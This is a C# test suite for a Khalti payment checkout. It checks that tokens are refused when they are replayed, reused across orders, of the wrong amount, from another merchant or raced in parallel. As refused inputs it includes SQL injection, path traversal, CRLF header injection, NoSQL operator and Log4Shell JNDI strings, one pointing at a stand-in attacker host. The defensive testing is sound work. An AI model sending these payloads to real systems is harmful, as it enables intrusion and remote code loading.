using System.Text.Json.Nodes;
using KhaltiCheckout.Tests.Payments;
using KhaltiCheckout.Tests.Support;

namespace KhaltiCheckout.Tests.Attack;

/// <summary>Tokens that should pay nothing, or only once.</summary>
public sealed class TokenAttackTests
{
    private const string OtherMerchant = "test_public_key_66666666666666666666666666666666";
    private const string LiveKey = "live_public_key_44444444444444444444444444444444";

    [Fact]
    public async Task A_token_that_paid_one_order_pays_no_other()
    {
        await using Target shop = await Target.OpenAsync();
        (JsonNode paid, string token) = await shop.PaidAsync();
        JsonNode other = await shop.OrderAsync();

        Answered answer = await shop.VerifyAsync(other, token);

        (answer.Status, answer.Code).ShouldBe((409, "token_already_used"));
        answer.Text.ShouldNotContain(paid.Id());
        (await shop.ReadAsync(other)).Status().ShouldBe("pending");
        (await shop.Sandbox.CountAsync("verify", token)).ShouldBe(1);
    }

    [Fact]
    public async Task A_token_confirmed_for_another_order_does_not_pay()
    {
        await using Target shop = await Target.OpenAsync();
        (JsonNode victim, string token) = await shop.ConfirmedAsync();
        JsonNode thief = await shop.OrderAsync();

        Answered answer = await shop.VerifyAsync(thief, token);

        answer.Status.ShouldBe(202);
        (await shop.ReadAsync(thief)).PaymentStatus().ShouldBe("needs_review");
        (await shop.ReadAsync(thief)).Status().ShouldBe("pending");
        (await shop.ReadAsync(victim)).Status().ShouldBe("pending");
    }

    [Theory]
    [InlineData("singing-bowl", 1000)]
    [InlineData("ilam-tea", 18_499)]
    [InlineData("ilam-tea", 18_501)]
    [InlineData("ilam-tea", 1_850_000)]
    public async Task A_token_of_another_amount_neither_pays_nor_charges(string product, long confirmed)
    {
        await using Target shop = await Target.OpenAsync();
        JsonNode order = await shop.OrderAsync(product);
        string token = await shop.TokenAsync(confirmed, order.Id());

        Answered answer = await shop.VerifyAsync(order, token);

        (answer.Status, answer.Code).ShouldBe((402, "payment_declined"));
        await shop.NothingMovedAsync(order, token, asked: true);
    }

    [Theory]
    [InlineData(OtherMerchant, true, "another merchant's")]
    [InlineData(LiveKey, true, "a live one in test mode")]
    [InlineData(SandboxDriver.PublicKey, false, "one that was not confirmed")]
    public async Task A_token_that_is_unconfirmed_or_of_another_merchant_does_not_pay(string publicKey, bool confirm, string what)
    {
        await using Target shop = await Target.OpenAsync();
        JsonNode order = await shop.OrderAsync();
        string token = await shop.TokenAsync((long)order["amount"]!, order.Id(), publicKey, confirm);
        string before = await shop.Sandbox.StateAsync(token);

        Answered answer = await shop.VerifyAsync(order, token);

        (answer.Status, answer.Code).ShouldBe((402, "payment_declined"), what);
        (await shop.Sandbox.StateAsync(token)).ShouldBe(before);
        await shop.NothingMovedAsync(order, token, asked: true);
    }

    [Theory]
    [InlineData("QUao9cqFzxPgvWJNi9aKac")]
    [InlineData("{\"idx\":\"x\",\"token\":\"y\",\"state\":{\"name\":\"Completed\"}}")]
    [InlineData("walletPaymentVerification")]
    [InlineData("'OR'1'='1")]
    [InlineData("../../api/v2/payment/verify/")]
    [InlineData("x&amount=1000&token=y")]
    [InlineData("${jndi:ldap://evil.example/a}")]
    [InlineData("%0d%0aX-Injected:1")]
    public async Task An_invented_token_does_not_pay(string madeUp)
    {
        await using Target shop = await Target.OpenAsync();
        JsonNode order = await shop.OrderAsync();

        // Made up anew for each order, as a token is refused for a second one whatever it is.
        Answered answer = await shop.VerifyAsync(order, madeUp + order.Id());

        (answer.Status, answer.Code).ShouldBe((402, "payment_declined"));
        answer.Text.ShouldNotContain(madeUp);
        await shop.NothingMovedAsync(order);
    }

    [Theory]
    [InlineData("\"\"")]
    [InlineData("\" \"")]
    [InlineData("null")]
    [InlineData("1234567890")]
    [InlineData("[\"QUao9cqFzxPgvWJNi9aKac\"]")]
    [InlineData("{\"$ne\":\"\"}")]
    [InlineData("\"one\\r\\nX-Injected: 1\"")]
    [InlineData("\"nul\\u0000byte\"")]
    [InlineData("\"\\ud800\"")]
    [InlineData("\"टोकन\"")]
    public async Task A_malformed_token_is_refused_before_Khalti_is_called(string token)
    {
        await using Target shop = await Target.OpenAsync();
        JsonNode order = await shop.OrderAsync();

        Answered answer =
            await shop.PostTextAsync("/api/v1/payments/verify", $$"""{"orderId":"{{order.Id()}}","token":{{token}},"amount":18500}""");

        (answer.Status, answer.Code).ShouldBe((400, "validation_failed"));
        (await shop.ReadAsync(order))["payments"]!.AsArray().ShouldBeEmpty();
    }

    [Fact]
    public async Task The_widgets_success_payload_is_refused_as_a_verify_request()
    {
        await using Target shop = await Target.OpenAsync();
        (JsonNode order, string token) = await shop.ConfirmedAsync();

        Answered answer = await shop.PostAsync(
            "/api/v1/payments/verify",
            new
            {
                idx = "8xmeJnNXfoVjCvGcZiiGe7",
                amount = 18_500,
                mobile = "98XXXXX001",
                product_identity = order.Id(),
                token,
                status = "Completed"
            });

        (answer.Status, answer.Code).ShouldBe((400, "validation_failed"));
        await shop.NothingMovedAsync(order, token);
    }

    [Fact]
    public async Task A_repeated_token_gets_the_stored_answer()
    {
        await using Target shop = await Target.OpenAsync();
        (JsonNode paid, string token) = await shop.PaidAsync();

        Answered answer = await shop.VerifyAsync(paid, token);

        answer.Status.ShouldBe(200);
        answer.Text.ShouldBe(
            (await shop.ReadAsync(paid))
            .ToJsonString(new() { Encoder = System.Text.Encodings.Web.JavaScriptEncoder.UnsafeRelaxedJsonEscaping }));
        (await shop.Sandbox.CountAsync("verify", token)).ShouldBe(1);
    }

    [Fact]
    public async Task Fifty_parallel_repeats_call_Khalti_once()
    {
        await using Target shop = await Target.OpenAsync();
        (JsonNode order, string token) = await shop.ConfirmedAsync();

        Answered[] answers = await RaceTests.AtOnceAsync(50, _ => shop.VerifyAsync(order, token));

        answers.ShouldAllBe(answer => answer.Status == 200 || answer.Status == 202);
        (await shop.Sandbox.CountAsync("verify", token)).ShouldBe(1);
        (await shop.ReadAsync(order))["payments"]!.AsArray().Count.ShouldBe(1);
    }

    [Fact]
    public async Task Two_parallel_payments_of_one_order_charge_once()
    {
        await using Target shop = await Target.OpenAsync();
        (JsonNode order, string first) = await shop.ConfirmedAsync();
        string second = await shop.TokenAsync((long)order["amount"]!, order.Id());

        Answered[] answers = await RaceTests.AtOnceAsync(2, tab => shop.VerifyAsync(order, tab == 0 ? first : second));

        answers.Count(answer => answer.Status == 200).ShouldBe(1);
        answers.Single(answer => answer.Status != 200).Code.ShouldBeOneOf("payment_in_progress", "order_not_payable");
        string[] states = [await shop.Sandbox.StateAsync(first), await shop.Sandbox.StateAsync(second)];
        states.Order(StringComparer.Ordinal).ShouldBe(["Completed", "Confirmed"]);
    }
}
